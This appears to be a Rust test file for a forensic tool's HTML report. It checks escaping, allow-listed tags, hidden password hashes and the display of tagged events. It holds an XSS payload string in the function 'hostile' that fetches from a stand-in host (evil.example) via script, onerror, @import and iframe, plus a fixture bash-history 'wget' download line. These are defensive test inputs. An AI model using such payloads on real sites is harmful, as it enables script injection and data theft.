//! The HTML page of a report, and how a browser reads it.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use tests::{Browser, Compression, NewStore, Store, Tag, foreman, tags, without_word_links};

use crate::support::analyzed;

/// All elements and attributes that pages may contain.
const ELEMENTS: [&str; 45] = [
    "a", "article", "aside", "body", "caption", "code", "dd", "desc", "details", "div", "dl", "dt", "em",
    "footer", "h1", "h2", "h3", "h4", "head", "header", "html", "li", "main", "mark", "meta", "nav", "ol",
    "p", "rect", "section", "span", "strong", "style", "summary", "svg", "table", "tbody", "td", "text",
    "th", "thead", "time", "title", "tr", "ul",
];
const ATTRIBUTES: [&str; 20] = [
    "aria-hidden",
    "aria-label",
    "charset",
    "class",
    "content",
    "data-name",
    "datetime",
    "height",
    "href",
    "http-equiv",
    "id",
    "lang",
    "name",
    "preserveaspectratio",
    "role",
    "scope",
    "viewbox",
    "width",
    "x",
    "y",
];

/// Text that an attacker might write to make the page do something.
fn hostile(address: &str) -> String {
    format!(
        "<script>fetch('{address}/a');console.log('run')</script>\"><img src={address}/b onerror=console.log(1)>\
         '></style><style>@import url({address}/c);</style></title></svg></textarea><iframe src={address}/d></iframe>\
         <a href=javascript:console.log(1)>x</a><!-- <b onclick=console.log(1)>&lt;u&gt;&#60;i&#62;\u{202e}\u{1b}[31m\u{9b}\u{0}\u{ffff}"
    )
}

/// A store with such text in every possible place.
fn hostile_store(text: &str) -> Store {
    let mut store = NewStore::new(Compression::Zlib);
    let stream = store.stream(json!({"path_spec": json!({"location": text}).to_string()}));
    let data = store.event_data(json!({
        "data_type": text, "_parser_chain": text, text: text, "url": text, "hostname": text, "username": text,
        "_event_data_stream_identifier": format!("event_data_stream.{stream}"),
    }));
    for number in 0..50 {
        let event = store.event_row(&(number * 3_600_000_000_i64), &format!("event_data.{data}"), &text);
        store.tag(event, &[text, "label", &format!("session_{number}")]);
    }
    for (table, columns) in [
        ("browser_search_analysis_result", "number_of_queries INTEGER, search_engine TEXT, search_term TEXT"),
        ("chrome_extension_analysis_result", "extension TEXT, extension_identifier TEXT, username TEXT"),
        ("analysis_warning", "message TEXT, plugin_name TEXT"),
        ("extraction_warning", "message TEXT, parser_chain TEXT, path_spec TEXT"),
        ("preprocessing_warning", "message TEXT, path_spec TEXT, plugin_name TEXT"),
        ("source_configuration", "path TEXT, source_type TEXT"),
        ("analysis_report", "_data BLOB"),
        (
            "session",
            "aborted INTEGER, command_line_arguments TEXT, completion_time INTEGER, debug_mode INTEGER, identifier TEXT, \
             product_name TEXT, product_version TEXT, start_time INTEGER, preferred_encoding TEXT, \
             preferred_time_zone TEXT",
        ),
    ] {
        store
            .sql(&format!("CREATE TABLE {table} (_identifier INTEGER PRIMARY KEY AUTOINCREMENT, {columns})"));
    }
    let quoted = text.replace('\'', "''").replace('\0', "'||char(0)||'");
    store.sql(&format!(
        "INSERT INTO browser_search_analysis_result VALUES (1, 2, '{quoted}', '{quoted}');
         INSERT INTO chrome_extension_analysis_result VALUES (1, '{quoted}', '{quoted}', '{quoted}');
         INSERT INTO analysis_warning VALUES (1, '{quoted}', '{quoted}');
         INSERT INTO extraction_warning VALUES (1, '{quoted}', '{quoted}', '{{\"location\": \"<script>\"}}');
         INSERT INTO preprocessing_warning VALUES (1, '{quoted}', '{quoted}', '{quoted}');
         INSERT INTO source_configuration VALUES (1, '{quoted}', '{quoted}');
         INSERT INTO session VALUES (1, 0, '{quoted}', 2, 0, '{quoted}', '{quoted}', '{quoted}', 1, 'utf-8', 'UTC');"
    ));
    for plugin in ["unique_domains_visited", text] {
        let report = json!({"plugin_name": plugin, "time_compiled": 7, "event_filter": text, "text": text,
            "analysis_counter": {text: 3, "a": 2}});
        store.sql(&format!(
            "INSERT INTO analysis_report (_data) VALUES ('{}')",
            report.to_string().replace('\'', "''")
        ));
    }
    store.finish()
}

/// The page of a store, as a file beside it.
pub(crate) fn page(store: &Store, arguments: &[&str]) -> PathBuf {
    let path = store.folder().join(format!("page{}.html", arguments.len()));
    let run = foreman(["report", "--format", "html", "-w"]).arg(&path).arg(store.path()).args(arguments);
    assert_eq!(run.succeed().stderr, "");
    path
}

/// Reads a page without the links from words to the legend.
fn read(page: &Path) -> String {
    without_word_links(&std::fs::read_to_string(page).unwrap())
}

/// The check for foreign elements and attributes must find them in every position.
#[test]
fn nothing_of_a_page_is_overlooked() {
    let html = r#"<p title="" onclick="a"><b x='' y=">" z><i a=b/c><script>"<u>"</script><!-- <s> --><br/ class = "c">"#;
    let found: Vec<_> = tags(html)
        .into_iter()
        .map(|tag| format!("{} {}", tag.name, tag.attributes.into_keys().collect::<Vec<_>>().join(",")))
        .collect();
    assert_eq!(found, ["p onclick,title", "b x,y,z", "i a", "script ", "!-- ", "br class"]);
}

fn assert_only_ours(tags: &[Tag]) {
    assert_known(tags);
    let ids: Vec<_> = tags.iter().filter_map(|tag| tag.attributes.get("id")).collect();
    for link in tags.iter().filter_map(|tag| tag.attributes.get("href")) {
        let target = link.strip_prefix('#').unwrap_or_else(|| panic!("{link}"));
        assert!(ids.iter().any(|id| *id == target), "{link} leads nowhere");
    }
}

/// Fails if there is an element or an attribute that pages do not have.
pub(crate) fn assert_known(tags: &[Tag]) {
    let names: BTreeSet<_> = tags.iter().map(|tag| tag.name.as_str()).collect();
    let foreign: Vec<_> = names.iter().filter(|name| !ELEMENTS.contains(name)).collect();
    assert!(foreign.is_empty(), "elements {foreign:?}");
    let attributes: BTreeSet<_> =
        tags.iter().flat_map(|tag| tag.attributes.keys()).map(String::as_str).collect();
    let foreign: Vec<_> = attributes.iter().filter(|name| !ATTRIBUTES.contains(name)).collect();
    assert!(foreign.is_empty(), "attributes {foreign:?}");
    assert_eq!(tags.iter().filter(|tag| tag.name == "style").count(), 1);
    let ids: Vec<_> = tags.iter().filter_map(|tag| tag.attributes.get("id")).collect();
    assert_eq!(ids.iter().collect::<BTreeSet<_>>().len(), ids.len(), "two anchors of the same name: {ids:?}");
}

/// The account that matters is not behind the first ten events, it is counted as it is shown, and
/// each label of an event has its rule.
#[test]
fn what_matters_is_not_hidden() {
    let mut store = NewStore::new(Compression::Zlib);
    let login = |user: &str, address: &str| json!({"data_type": "syslog:ssh:login", "hostname": "web01", "username": user, "ip_address": address});
    for number in 0..30_i64 {
        let data = store.event_data(match number {
            25 => login("deploy", "203.0.113.77"),
            _ => login(["root", "Root"][usize::from(number > 20)], "127.0.0.1"),
        });
        let description = "Content Modification Time";
        let event = store.event_row(&(number * 1_000_000 + 1), &format!("event_data.{data}"), &description);
        store.tag(event, if number == 0 { &["ssh_login", "first_login"] } else { &["ssh_login"] });
    }
    let stream = store.stream(json!({
        "path_spec": r#"{"type_indicator": "OS", "location": "/case/home/deploy/.bash_history"}"#
    }));
    let data = store.event_data(json!({
        "data_type": "bash:history:entry", "command": "wget http://203.0.113.77/x",
        "_event_data_stream_identifier": format!("event_data_stream.{stream}"),
    }));
    let event = store.event(40_000_000, data);
    store.tag(event, &["download"]);
    let store = store.finish();
    let rules = store.beside(
        "rules.txt",
        "# severity: high\nssh_login\n  data_type is 'syslog:ssh:login'\n\n\
         # severity: high\nfirst_login\n  username is 'root'\n\n# severity: high\ndownload\n  command contains 'wget'\n",
    );
    let page = read(&page(&store, &["--tagging-file", rules.to_str().unwrap()]));
    // Both events of deploy: the user of one is in its data, that of the other in the path of its
    // file.
    for (heading, name, events) in
        [("user", "deploy", 2), ("user", "Root", 29), ("host", "web01", 30), ("address", "203.0.113.77", 1)]
    {
        let cells = format!(
            "<td class=\"name\" data-name=\"{heading}\">{name}</td><td class=\"number\" data-name=\"events\">{events}</td>"
        );
        assert!(page.contains(&cells), "{cells}: {page}");
    }
    let words = "10 of 30 events, in order of time: the first, the first of each further user, host and address, and the earliest of the rest";
    let finding = page.split_once("<h4>ssh_login</h4>").unwrap().1.split_once("</article>").unwrap().0;
    assert!(finding.contains(words) && finding.contains("<dd>deploy</dd>"), "{finding}");
    assert!(finding.contains("<dt>Addresses</dt><dd>203.0.113.77 (1)</dd>"), "{finding}");
    for rule in [
        "ssh_login by rules.txt:3: data_type is &#39;syslog:ssh:login&#39;",
        "first_login by rules.txt:7: username is &#39;root&#39;",
    ] {
        assert!(
            page.replace(rules.parent().unwrap().to_str().unwrap(), "").replace("by /", "by ").contains(rule),
            "{rule}: {page}"
        );
    }
    assert!(
        page.contains("<dt>Times shown in</dt><dd>UTC</dd>") && page.contains(" UTC. 31 events"),
        "{page}"
    );
    assert!(page.contains("<span>logged</span>") && !page.contains("Content Modification Time"), "{page}");
    assert!(
        page.contains("<dd>1970-01-01 00:00:00.000001 logged, <a href=\"#event-1\">event 1</a></dd>"),
        "{page}"
    );
    let story = page.split_once("<section id=\"story\">").unwrap().1.split_once("</section>").unwrap().0;
    assert!(story.rsplit_once("<tr>").unwrap().1.contains("wget"), "{story}");
    assert!(!page.contains("foreman rules"), "{page}");
}

#[test]
fn has_what_the_report_has() {
    for name in ["sample", "sample-20230327"] {
        let store = analyzed(name);
        let bytes = store.bytes();
        let html = std::fs::read_to_string(page(&store, &[])).unwrap();
        assert!(store.bytes() == bytes);
        let tags = tags(&html);
        assert_only_ours(&tags);
        let of_class = |class: &str| {
            tags.iter().filter(|t| t.attributes.get("class").is_some_and(|c| c == class)).count()
        };
        // The labels in the overview and in the findings; the 20 largest sessions.
        assert_eq!((of_class("bars"), of_class("sessions"), of_class("spark")), (1, 1, 3 + 3 + 20));
        let json = foreman(["report", "--format", "json"]).arg(store.path()).succeed().stdout;
        let report: Value = serde_json::from_str(&json).unwrap();
        let busy =
            |bins: &Value| bins["counts"].as_array().unwrap().iter().filter(|count| **count != 0).count();
        let labels = report["labels"]["rows"].as_array().unwrap();
        let of = |facts: &[Value]| facts.iter().map(|facts| busy(&facts["histogram"])).sum::<usize>();
        let severities = report["severities"].as_array().unwrap();
        let bars = busy(&report["timeline"]["events"]) + 2 * of(labels) + of(severities);
        // Each chart shows the gap in September to November.
        assert_eq!(report["timeline"]["gaps"].as_array().unwrap().len(), 1);
        let charts = 2 + 3 + 3 + 20 + severities.len();
        assert_eq!(of_class("gap"), charts);
        assert_eq!(tags.iter().filter(|tag| tag.name == "rect").count(), bars + 283 + 20 + charts);
        for said in [
            "4,547 events",
            "login_failed",
            "log2timeline --unattended",
            "session_180",
            "apache:access_log:entry",
        ] {
            assert!(html.contains(said), "{said}");
        }
        let again = foreman(["report", "--format", "html"]).arg(store.path()).succeed().stdout;
        assert!(without_made(&html) == without_made(&again), "the page is not the same twice");
    }
}

/// Cuts out when the page was made.
fn without_made(html: &str) -> String {
    let (before, rest) = html.split_once("class=\"made\"").expect("when it was made");
    let (_, after) = rest.split_once("</time>").unwrap();
    format!("{before}{after}")
}

/// The page says what it is about, by whom and when it was made, and of which bytes.
#[test]
fn says_of_which_case_it_is() {
    let store = analyzed("sample");
    let digest: String = Sha256::digest(store.bytes()).iter().map(|byte| format!("{byte:02x}")).collect();
    let arguments =
        ["--case", "2026 & <b>", "--analyst", "A. Analyst", "--title", "The \"web\" server", "--hash"];
    let html = std::fs::read_to_string(page(&store, &arguments)).unwrap();
    assert_only_ours(&tags(&html));
    for said in [
        "<dd>2026 &amp; &lt;b&gt;</dd>",
        "<dd>A. Analyst</dd>",
        "<h1>The &quot;web&quot; server</h1>",
        &digest,
    ] {
        assert!(html.contains(said), "{said}");
    }
    for option in [&["--hash"][..], &["--case", "1"], &["--analyst", "1"], &["--title", "1"]] {
        let refused = foreman(["report"]).args(option).arg(store.path()).expect(2);
        assert!(refused.stderr.contains("add --format html"), "{}", refused.stderr);
        let refused =
            foreman(["report", "--format", "html", "--label", "files"]).args(option).arg(store.path());
        assert!(refused.expect(2).stderr.contains("cannot be used with"));
    }
}

/// Of each label the page shows the first events, in words, with what matched and by which rule. An
/// event of several labels is shown once, and records once with all their times.
#[test]
fn shows_the_events_of_its_findings() {
    let store = Store::of("sample");
    foreman(["analyze", "--analysis", "tagging", "--tagging-file", "linux"]).arg(store.path()).succeed();
    let path = page(&store, &["--rows", "30"]);
    assert_only_ours(&tags(&std::fs::read_to_string(&path).unwrap()));
    let html = read(&path);
    let report = foreman(["report", "--format", "json"]).arg(store.path()).succeed().stdout;
    let report: Value = serde_json::from_str(&report).unwrap();
    let labels = report["labels"]["rows"].as_array().unwrap();
    let findings: Vec<&str> = html.split("<article class=\"finding ").skip(1).collect();
    assert_eq!(findings.len(), labels.len());
    for (label, finding) in labels.iter().zip(findings) {
        let finding = finding.split_once("</article>").unwrap().0;
        let name = label["label"].as_str().unwrap();
        assert!(finding.contains(&format!("<h4>{name}</h4>")), "{name}: {finding:.300}");
        let description = label["description"].as_str().unwrap();
        assert!(finding.contains(&description.replace('\'', "&#39;").replace('"', "&quot;")), "{name}");
        let records = label["records"].as_u64().unwrap();
        let shown = finding.matches("<li>").count() as u64;
        assert_eq!(shown, records.min(30), "{name}");
        // Each event is shown here, or there is a link to where it is shown.
        let elsewhere = finding.matches("class=\"elsewhere\"").count();
        let with_rule =
            finding.split("<li>").filter(|event| event.contains(&format!("<dd>{name} by linux:")));
        assert_eq!(with_rule.count() + elsewhere, finding.matches("<li>").count(), "{name}");
    }
    assert!(html.contains("class=\"elsewhere\""), "no event has two labels");
    assert!(html.contains("<dt>host</dt><dd>web01</dd>"), "no host");
    let files = html.split_once("<h4>file_transferred</h4>").unwrap().1.split_once("</article>").unwrap().0;
    assert_eq!((files.matches("<time").count(), files.matches("<li>").count()), (2, 1), "{files}");
    // Events in the order of time are named as `check --event` takes them.
    let story = html.split_once("<section id=\"story\">").unwrap().1.split_once("</section>").unwrap().0;
    let links = story.split("<a href=\"#event-").skip(1).map(|link| link.split_once("</a>").unwrap().0);
    let links: Vec<_> = links.map(|link| link.split_once("\">").unwrap()).collect();
    assert!(
        links.iter().any(|(number, _)| number.len() > 3) && links.iter().all(|(number, text)| number == text)
    );
}

/// A fresh reader learns from an event who did it, which record it is and which part of which rule
/// decided, even if only other events have the name of the account.
#[test]
fn an_event_tells_who_where_and_why() {
    let mut store = NewStore::new(Compression::Zlib);
    let record = |number: i64, identifier: i64, source: &str, fields: &str| {
        json!({
            "data_type": "windows:evtx:record", "event_identifier": identifier, "source_name": source,
            "record_number": number, "computer_name": "pc", "user_sid": "S-1-5-21-1-2-3-1111",
            "xml_string": format!(
                "<Event><System><Channel>System</Channel></System><EventData>{fields}</EventData></Event>"
            ),
        })
    };
    let install = r#"<Data Name="ServiceName">x</Data><Data Name="ImagePath">c:\temp\x.exe</Data>"#;
    let logon = r#"<Data Name="TargetUserSid">S-1-5-21-1-2-3-1111</Data><Data Name="TargetUserName">eve</Data>
        <Data Name="TargetDomainName">CORP</Data>"#;
    for (number, data) in [
        record(7, 7045, "Service Control Manager", install),
        record(8, 4624, "Microsoft-Windows-Security-Auditing", logon),
        record(9, 7045, "Service Control Manager", install),
    ]
    .into_iter()
    .enumerate()
    {
        let data = store.event_data(data);
        // The first and the last are in the same second.
        let event = store.event(if number == 1 { 7_000_000 } else { 5_000_000 + number as i64 }, data);
        store.tag(event, &[["service", "logon", "service"][number]]);
    }
    let odd = store.event_data(json!({"data_type": "test:odd", "x": 1}));
    let odd = store.event(9_000_000, odd);
    store.tag(odd, &["of_others"]);
    let store = store.finish();
    let rules = store.beside(
        "rules.txt",
        "# severity: high\nservice\n  # attack: T1055\n  event_identifier is 1 or xml_string.ImagePath contains 'temp'\n\n\
         # severity: low\nlogon\n  event_identifier is 4624\n",
    );
    let page = read(&page(&store, &["--tagging-file", rules.to_str().unwrap()]));
    let finding = |label: &str| {
        let start = page.split_once(&format!("<h4>{label}</h4>")).unwrap().1;
        start.split_once("</article>").unwrap().0
    };
    let service = finding("service");
    for said in [
        "<dt>user</dt><dd>CORP\\eve (S-1-5-21-1-2-3-1111)</dd>",
        "<dt>by</dt><dd>not recorded (the event names a user, and does not say who acted)</dd>",
        "<dt>Users</dt><dd>CORP\\eve (2)</dd>",
        "<dt>Hosts</dt><dd>pc (2)</dd>",
        "<dt>event</dt><dd>row 1 of the storage file</dd>",
        "<dt>record</dt><dd>event 7045 of Service Control Manager, log System, record 7</dd>",
        "rules.txt:4: xml_string.ImagePath contains &#39;temp&#39;</dd>",
        "<dt>ATT&amp;CK</dt><dd>the rule for service points to T1055 Process Injection</dd>",
        "<dd>c:\\<mark>temp</mark>\\x.exe</dd>",
        "<dt>ATT&amp;CK of the label</dt><dd>T1055 Process Injection</dd>",
    ] {
        assert!(service.contains(said), "{said}: {service}");
    }
    let odd = finding("of_others");
    assert!(odd.contains("describe this label") && odd.contains("no rule that is known here"), "{odd}");
    // Two records of the same words are one line.
    let story = page.split_once("<section id=\"story\">").unwrap().1.split_once("</section>").unwrap().0;
    assert_eq!(story.matches("<tr>").count(), 1 + 1, "{story}");
    assert!(story.contains("×2") && story.contains("one line"), "{story}");
}

/// A page is handed on, so it does not have the hashes of passwords, not even inside a message.
#[test]
fn hashes_of_secrets_are_not_shown() {
    let mut store = NewStore::new(Compression::Zlib);
    for data in [
        json!({"data_type": "macos:user:entry", "username": "eve", "password_hash": "$ml$SECRET"}),
        json!({"data_type": "macos:keychain:application", "entry_name": "Note", "ssgp_hash": "SECRET"}),
    ] {
        let data = store.event_data(data);
        let event = store.event(5_000_000, data);
        store.tag(event, &["secret_stored"]);
    }
    let page = read(&page(&store.finish(), &[]));
    assert!(page.contains("has the account eve") && page.contains("keeps the secret Note"), "{page}");
    assert!(!page.contains("SECRET"), "{page}");
    assert!(page.contains("<dt>ssgp_hash</dt><dd>6 characters</dd>"), "{page}");
}

/// The times of a rule are those of its label, which an interval can leave out.
#[test]
fn a_sigma_rule_whose_label_is_not_shown_has_no_times() {
    let store = Store::of("sample");
    let rule = "title: A password\nlevel: high\nlogsource: {product: linux, service: sshd}\n\
                detection: {keywords: ['Failed password'], condition: keywords}\n";
    let rules = store.beside("rule.yml", rule);
    foreman(["analyze", "--analysis", "sigma", "--sigma-rules"]).arg(&rules).arg(store.path()).succeed();
    let rule_row = |arguments: &[&str]| {
        let html = std::fs::read_to_string(page(&store, arguments)).unwrap();
        let section =
            html.split_once("<section id=\"sigma\">").unwrap().1.split_once("</section>").unwrap().0;
        section.to_owned()
    };
    let whole = rule_row(&[]);
    assert_eq!(whole.matches("<time").count(), 2, "{whole}");
    let later = rule_row(&["--from", "2027-01-01"]);
    assert!(later.contains("A password") && !later.contains("usable time"), "{later}");
}

#[test]
fn of_a_hostile_store_is_only_ours() {
    let text = hostile("http://evil.example");
    let store = hostile_store(&text);
    for arguments in [&[][..], &["--all"][..], &["--label", "label"][..]] {
        let html = std::fs::read_to_string(page(&store, arguments)).unwrap();
        assert_only_ours(&tags(&html));
        assert!(html.matches("&lt;script&gt;fetch(&#39;http").count() > 5, "the store's texts are not shown");
        let is_plain = |c: char| c == '\n' || !(c.is_control() || matches!(c, '\u{202e}' | '\u{ffff}'));
        assert!(html.chars().all(is_plain));
    }
}

#[test]
fn a_thousand_labels_stay_readable() {
    let mut store = NewStore::new(Compression::None);
    let data = store.event_data(json!({"data_type": "test:event"}));
    for number in 0..1_000 {
        let event = store.event(number * 1_000_000, data);
        store.tag(event, &[&format!("label_{number}_x"), &format!("{number}{}", "y".repeat(5_000))]);
    }
    let html = std::fs::read_to_string(page(&store.finish(), &[])).unwrap();
    assert!(html.contains("… and 1,900 more labels"));
    assert!(html.len() < 450_000, "{} bytes", html.len());
}

#[test]
fn does_nothing_in_a_browser() {
    let Some(browser) = Browser::find() else { return };
    let text = hostile(&browser.address());
    let store = hostile_store(&text);
    // The check works: without escaping it finds all of this.
    let control = store.beside("control.html", &format!("<!DOCTYPE html><title>x</title><p>{text}"));
    let seen = browser.load(&control);
    assert!(seen.connections > 0 && seen.dom.contains("<script>"), "{seen:?}");
    assert!(seen.console.iter().any(|line| line.contains("run")), "{:?}", seen.console);
    let analysed = analyzed("sample");
    let pages: [(&Store, &[&str]); 3] = [(&store, &[]), (&store, &["--label", "label"]), (&analysed, &[])];
    for (store, arguments) in pages {
        assert_quiet(&browser, &page(store, arguments));
    }
}

fn assert_quiet(browser: &Browser, page: &Path) {
    let seen = browser.load(page);
    assert_eq!(seen.console, [""; 0]);
    assert_eq!(seen.connections, 0);
    let tags = tags(&seen.dom);
    assert!(tags.len() > 100, "{}", seen.dom);
    assert_only_ours(&tags);
}
